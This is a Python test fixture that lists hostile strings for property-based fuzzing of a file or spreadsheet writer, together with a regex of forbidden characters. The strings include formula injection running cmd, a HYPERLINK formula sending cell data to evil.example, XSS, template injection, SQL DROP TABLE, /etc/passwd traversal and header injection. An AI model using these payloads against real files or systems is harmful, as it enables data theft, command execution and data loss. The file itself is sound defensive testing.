"""Texts that someone may have put where a name belongs, to harm whoever opens a file that carries them."""

import re

from hypothesis import strategies as st

TEXTS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]></text><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "&lt;b&gt; &amp; &x;",
    "_x0041_ _x000D_",
    "\u202egpj.exe",
    "\u2066a\u2069\u200f\u061c",
    "\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "x" * 10_000,
    "\U0001f525" * 10_000,
    "a\x00b\x07c\x1bd\x7fe\x85f\u2028g\ufffe\ud800h",
    "../../etc/passwd",
    'a"; filename="evil.exe',
    "a\r\nSet-Cookie: x=1",
    "var(--ink) url(#p) javascript:alert(1)",
    "&L&\"Wingdings\"&72 &P && %s {0} {title}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "%s%n%(name)s {0.__class__}",
    "' OR 1=1; DROP TABLE users; --",
    "x" * 300,
    "NUL", "CON.xlsx", "",
)  # fmt: skip

texts = st.one_of(st.sampled_from(TEXTS), st.text(st.characters(), max_size=60))
"""Any of them, and any text at all, half characters included."""

UNPRINTABLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
"""What no file may carry."""
